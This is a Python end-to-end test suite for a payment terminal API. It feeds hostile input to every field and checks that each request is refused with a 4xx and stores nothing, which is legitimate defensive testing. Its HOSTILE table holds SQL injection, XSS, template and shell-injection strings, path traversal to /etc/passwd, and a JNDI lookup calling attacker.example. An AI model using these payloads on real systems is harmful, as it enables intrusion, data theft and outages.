"""Hostile input in every field of every operation: a clear 4xx, and nothing stored.

Each text field of the terminal API (LOGIN's mid, key, password and os; REQUEST's transKey, code
and serviceId; GET-QR-CODE's transKey and serviceId; CANCEL's passCode and refundKey; VOUCHERNO's
voucherNo; IDENTIFY's code; the transId in every path; STATUS's transKey query) receives SQL,
HTML, template and shell injections, control characters (NUL, CR LF, a newline at the end,
escape sequences), look-alike Unicode (full-width and Arabic-Indic digits, Cyrillic letters,
zero-width and right-to-left characters), values of the wrong JSON type, and values far too long.
Every body endpoint also gets bodies over the size limit (with and without Content-Length), wrong
Content-Types, bodies nested thousands of levels deep, bytes that are not UTF-8 and JSON that is
not JSON — and so do the public sandbox and provider-notification endpoints.

Every answer must be a 4xx in the error envelope, naming the offending field where there is one;
no 5xx, no traceback in the server's log; and the database must be exactly as before (no payment,
refund, session, lockout count or audit event). Each field's valid value is sent too, and must
succeed, so that a refusal is known to come from the hostile part.

KESSAI_ATTACK_LONG=1 adds a seeded random corpus (KESSAI_ATTACK_SEED to replay) for every field.
"""

from __future__ import annotations

import os
import random
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, Final
from urllib.parse import quote

import httpx
import pytest

from e2e.support import Pos, assert_error, new_key, sandbox_code

from .attack_support import (
    LONG,
    Gateway,
    assert_same_state,
    client_at,
    database_state,
    fresh_address,
    running_gateway,
)

pytestmark = pytest.mark.e2e

# Each holds at least one character no field of the API accepts, so none can be valid by chance.
HOSTILE: Final[dict[str, str]] = {
    "sql quote": "' OR '1'='1",
    "sql stacked": "1; DROP TABLE payments;--",
    "sql comment": "1234'--",
    "sql union": "0 UNION SELECT password_hash FROM terminals",
    "html": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "path traversal": "../../../../etc/passwd",
    "shell": "$(reboot)`id`",
    "format": "%s%n%x",
    "json in a string": '{"amount": 1}',
    "nul": "1234\x00",
    "nul alone": "\x00",
    "crlf": "AB\r\nX-Injected: 1",
    "newline at the end": "ABC123\n",
    "tab": "AB\tCD",
    "escape sequence": "\x1b[31mRED",
    "delete": "AB\x7f",
    "right-to-left override": "AB\u202eCD",
    "zero-width space": "12\u200b34",
    "full-width digits": "１２３４５６７８９０",
    "arabic-indic digits": "٠١٢٣",
    "superscript digits": "¹²³⁴",
    "cyrillic look-alikes": "АВС",
    "accented letters": "ÄÖÜ",
    "en dash": "A–B",
    "emoji": "😀",
    "a space": " ",
    "empty": "",
    "percent-encoded": "%00%0d%0a",
    "backslash": "A\\B",
    "a quote": '"',
}
WRONG_TYPES: Final[dict[str, Any]] = {
    "null": None,
    "true": True,
    "number": 1234,
    "fraction": 12.5,
    "array": ["1234"],
    "object": {"$ne": ""},
    "empty array": [],
}
# Fields an operation may go without (JSON null included).
OPTIONAL: Final = frozenset({"serviceId", "refundKey", "ttlSeconds", "amount"})
LONG_TEXT: Final = "A1" * 2500  # 5,000 characters: over every field's limit, under the body's
MAX_BODY: Final = 16 * 1024
# Characters for the random corpus: printable ASCII, controls, and some of Unicode's trouble.
_ALPHABET: Final = (
    string.printable
    + "".join(chr(c) for c in range(0, 32))
    + "\x7f\u00a0\u200b\u202e\ufeff１２３٠١АВСÄ😀\u0301"
)
_NOT_ALLOWED: Final = "'\"<>{}$;%\\ \x00\n\r\x1b\u202e"


@dataclass(frozen=True)
class Operation:
    """One operation with a body: how to call it, a valid body, and its text fields."""

    name: str
    method: str
    path: str
    body: Callable[[], dict[str, Any]]
    fields: tuple[str, ...]
    auth: bool = True


@dataclass
class World:
    """The gateway, a logged-in register, a paid payment, a terminal to log in as, spare codes."""

    gw: Gateway
    pos: Pos
    sale: dict[str, Any]
    target: Pos
    spare_code: str

    def operations(self) -> list[Operation]:
        """Every operation of the terminal API that takes a body."""
        sale_id = self.sale["transId"]
        target = self.target
        return [
            Operation(
                "LOGIN",
                "POST",
                "/v1/login",
                target.login_body,
                ("mid", "key", "password", "os"),
                auth=False,
            ),
            Operation(
                "REQUEST",
                "POST",
                "/v1/payments",
                lambda: {
                    "transKey": new_key(),
                    "amount": 100,
                    "code": self.spare_code,
                    "serviceId": "01",
                },
                ("transKey", "code", "serviceId"),
            ),
            Operation(
                "GET-QR-CODE",
                "POST",
                "/v1/qr-codes",
                lambda: {
                    "transKey": new_key(),
                    "amount": 100,
                    "serviceId": "01",
                    "ttlSeconds": 300,
                },
                ("transKey", "serviceId"),
            ),
            Operation(
                "CANCEL",
                "POST",
                f"/v1/payments/{sale_id}/refunds",
                lambda: {
                    "passCode": self.pos.terminal.pass_code,
                    "amount": 1,
                    "refundKey": new_key("R"),
                },
                ("passCode", "refundKey"),
            ),
            Operation(
                "VOUCHERNO",
                "PUT",
                f"/v1/payments/{sale_id}/voucher",
                lambda: {"voucherNo": "SLIP-1"},
                ("voucherNo",),
            ),
            Operation(
                "IDENTIFY",
                "POST",
                "/v1/identify",
                lambda: {"code": self.spare_code},
                ("code",),
            ),
        ]

    def send(self, op: Operation, body: Any, **headers: str) -> httpx.Response:
        """``op`` with ``body`` (JSON-encoded unless bytes) and extra headers."""
        sent = dict(self.pos.auth()) if op.auth else {}
        sent.update(headers)
        if isinstance(body, bytes):
            sent.setdefault("content-type", "application/json")
            return self.pos.http.request(op.method, op.path, content=body, headers=sent)
        return self.pos.http.request(op.method, op.path, json=body, headers=sent)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with running_gateway(tmp_path_factory.mktemp("input")) as gw:
        pos = Pos(client_at(gw.base_url, fresh_address()), gw.provisioner.fresh())
        pos.login_ok()
        sale = pos.pay(sandbox_code(pos.http, "01"), 5000)
        assert sale["status"] == "COMPLETED"
        target = Pos(client_at(gw.base_url, fresh_address()), gw.provisioner.fresh())
        yield World(gw, pos, sale, target, sandbox_code(pos.http, "01"))


@pytest.fixture
def unchanged(world: World) -> Iterator[None]:
    """The test leaves the database as it found it, and the server's log without a crash."""
    log = world.gw.server.log
    crashes = log.read_text(errors="replace").count("unexpected error")
    before = database_state(world.gw.database_url)
    yield
    assert_same_state(before, database_state(world.gw.database_url))
    assert log.read_text(errors="replace").count("unexpected error") == crashes, (
        "the server logged an unexpected error: a 500"
    )
    assert world.pos.http.get("/healthz").status_code == 200


def _refused(answer: httpx.Response, field: str | None, *also: int) -> dict[str, Any]:
    """A 4xx in the envelope that names ``field`` (when one is given)."""
    assert 400 <= answer.status_code < 500, (field, answer.status_code, answer.text)
    error = assert_error(answer, answer.status_code, answer.json()["error"]["code"])
    if field is not None and answer.status_code not in also:
        assert error["field"] == field, (field, error)
    return error


def _corpus(field: str, *, optional: bool = False, text_only: bool = False) -> dict[str, Any]:
    """Hostile values for ``field``: the fixed list, wrong JSON types, and in long mode more."""
    values: dict[str, Any] = dict(HOSTILE)
    if not text_only:
        values.update(
            # null is how JSON says "not given", which an optional field may be.
            {f"type {name}": v for name, v in WRONG_TYPES.items() if v is not None or not optional}
        )
    values["too long"] = LONG_TEXT
    if LONG:
        seed = int(os.environ.get("KESSAI_ATTACK_SEED", "20261128"))
        # A replayable corpus, not a secret: the seed is in the environment.
        rng = random.Random(f"{seed}:{field}")
        for n in range(200):
            text = "".join(rng.choice(_ALPHABET) for _ in range(rng.randrange(0, 40)))
            cut = rng.randrange(0, len(text) + 1)
            values[f"random {seed}/{n}"] = text[:cut] + rng.choice(_NOT_ALLOWED) + text[cut:]
    return values


# --- text fields ----------------------------------------------------------------------------------


def test_hostile_values_in_every_body_field(world: World, unchanged: None) -> None:
    sent_keys: list[str] = []
    for op in world.operations():
        for field in op.fields:
            for label, value in _corpus(field, optional=field in OPTIONAL).items():
                body = op.body()
                body[field] = value
                if "transKey" in body and isinstance(body["transKey"], str):
                    sent_keys.append(body["transKey"])
                answer = world.send(op, body)
                assert 400 <= answer.status_code < 500, (op.name, field, label, answer.text)
                _refused(answer, field)
    # Black-box as well: no payment exists under any transKey that was sent.
    for trans_key in sent_keys[:: max(1, len(sent_keys) // 40)]:
        if trans_key.isascii() and trans_key.isalnum() and len(trans_key) <= 34:
            assert_error(world.pos.status(trans_key), 404, "PAYMENT_NOT_FOUND")


def test_hostile_trans_ids_in_every_path_and_trans_keys_in_the_query(
    world: World, unchanged: None
) -> None:
    pos = world.pos
    paths = [
        ("GET", "/v1/payments/{}"),
        ("POST", "/v1/payments/{}/refunds"),
        ("PUT", "/v1/payments/{}/voucher"),
        ("GET", "/v1/payments/{}/qr.png"),
        ("GET", "/v1/payments/{}/qr.svg"),
    ]
    for label, text in _corpus("transId", text_only=True).items():
        if not text:
            continue  # an empty segment is another route (/v1/payments/ is STATUS)
        for method, template in paths:
            body: dict[str, Any] | None = None
            if "refunds" in template:
                body = {"passCode": pos.terminal.pass_code, "amount": 1}
            elif "voucher" in template:
                body = {"voucherNo": "SLIP-2"}
            answer = pos.http.request(
                method, template.format(quote(text, safe="")), json=body, headers=pos.auth()
            )
            # A "/" in the value makes another path: no such route (404/405) is a fine answer.
            _refused(answer, "transId", 404, 405)
            assert answer.status_code != 404 or answer.json()["error"]["code"] != (
                "PAYMENT_NOT_FOUND"
            ), (label, template, "a hostile transId was looked up")
        answer = pos.http.get("/v1/payments", params={"transKey": text}, headers=pos.auth())
        _refused(answer, "transKey")
        assert answer.status_code == 400, (label, answer.text)


def test_every_valid_value_used_above_succeeds(world: World) -> None:
    # The control for the two tests above: with the valid value, each operation goes through.
    answers = {op.name: world.send(op, op.body()) for op in world.operations()}
    for name, answer in answers.items():
        assert answer.status_code == 200, (name, answer.text)
    assert answers["REQUEST"].json()["status"] == "COMPLETED"
    assert answers["CANCEL"].json()["refundedAmount"] == 1
    assert answers["VOUCHERNO"].json()["voucherNo"] == "SLIP-1"
    assert answers["IDENTIFY"].json()["serviceId"] == "01"
    world.pos.login_ok()  # LOGIN above was the target's; ours is untouched, but make sure


# --- sizes ----------------------------------------------------------------------------------------


def test_oversized_bodies_are_refused_before_they_are_read(world: World, unchanged: None) -> None:
    for op in world.operations():
        body = op.body()
        field = op.fields[0]
        body[field] = "A" * MAX_BODY
        answer = world.send(op, body)
        assert_error(answer, 413, "BODY_TOO_LARGE", None)
        # Streamed without a Content-Length: the limit still holds.
        raw = httpx.Request("POST", "/", json=body).content

        def chunks(data: bytes = raw) -> Iterator[bytes]:
            for start in range(0, len(data), 4096):
                yield data[start : start + 4096]

        headers = {"content-type": "application/json", **(world.pos.auth() if op.auth else {})}
        streamed = world.pos.http.request(op.method, op.path, content=chunks(), headers=headers)
        assert_error(streamed, 413, "BODY_TOO_LARGE", None)
        # Under the limit but made of thousands of unknown fields: refused, by name.
        many = {f"f{n}": 1 for n in range(1200)}
        assert len(httpx.Request("POST", "/", json=many).content) < MAX_BODY
        _refused(world.send(op, many | op.body()), None)


def test_numbers_out_of_every_range_are_refused(world: World, unchanged: None) -> None:
    request = next(op for op in world.operations() if op.name == "REQUEST")
    for raw in (b"1e400", b"-0", b"1.0", b"9" * 400, b"-9223372036854775809", b"NaN", b"0x10"):
        body = (
            b'{"transKey": "'
            + new_key().encode()
            + b'", "amount": '
            + raw
            + b', "code": "'
            + world.spare_code.encode()
            + b'"}'
        )
        answer = world.send(request, body)
        assert answer.status_code == 400, (raw, answer.text)
        error = _refused(answer, None)
        assert error["code"] in ("INVALID_FIELD", "MALFORMED_JSON"), (raw, error)


# --- what is not JSON -----------------------------------------------------------------------------


def test_bodies_that_are_not_json_in_every_body_endpoint(world: World, unchanged: None) -> None:
    wrong_types = (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
        "application/jsonx",
        "application/javascript",
    )
    for op in world.operations():
        valid = httpx.Request("POST", "/", json=op.body()).content
        for media in wrong_types:
            answer = world.send(op, valid, **{"content-type": media})
            assert_error(answer, 415, "UNSUPPORTED_MEDIA_TYPE")
        form = world.send(op, b"passCode=1234&amount=1", **{"content-type": "application/json"})
        assert_error(form, 400, "MALFORMED_JSON")
    # LOGIN with the right credentials as a form opened no session: checked by `unchanged`.


DEPTH: Final = 6000
NOT_JSON: Final[dict[str, bytes]] = {
    "arrays nested deep": b"[" * DEPTH + b"]" * DEPTH,
    "objects nested deep": b'{"a":' * 1500 + b"1" + b"}" * 1500,
    "a field nested deep": b'{"transKey":' + b"[" * DEPTH + b"]" * DEPTH + b"}",
    "an unknown field nested deep": b'{"zz":' + b"[" * DEPTH + b"]" * DEPTH + b"}",
    "unclosed nesting": b"[" * DEPTH,
    "not utf-8": b'{"code": "\xff\xfe\xfd"}',
    "utf-16": '{"code": "1234"}'.encode("utf-16"),
    "a lone surrogate": b'{"code": "\\ud800"}',
    "a raw control character": b'{"code": "a\x01b"}',
    "a raw nul": b'{"code": "a\x00b"}',
    "NaN": b'{"amount": NaN}',
    "a comment": b'{"code": "1" /* hi */}',
    "single quotes": b"{'code': '1'}",
    "a trailing comma": b'{"code": "1",}',
    "cut short": b'{"code": "12',
    "empty": b"",
    "whitespace": b"   \n ",
    "a bare string": b'"1234"',
    "an array": b'[{"code": "1"}]',
    "null": b"null",
    "a byte order mark": b'\xef\xbb\xbf{"code": "1"}',
}


def test_deep_and_broken_json_in_every_body_endpoint(world: World, unchanged: None) -> None:
    for op in world.operations():
        for label, raw in NOT_JSON.items():
            answer = world.send(op, raw)
            assert answer.status_code in (400, 413), (op.name, label, answer.text)
            _refused(answer, None)


def test_deep_and_broken_json_at_the_public_endpoints(world: World, unchanged: None) -> None:
    public = (
        "/sandbox/codes",
        "/sandbox/phone/status",
        "/notifications/paypay",
        "/notifications/alipayplus",
    )
    with httpx.Client(base_url=world.gw.base_url, timeout=60) as http:
        for path in public:
            for label, raw in NOT_JSON.items():
                answer = http.post(path, content=raw, headers={"content-type": "application/json"})
                assert 400 <= answer.status_code < 500, (path, label, answer.text)
                _refused(answer, None)
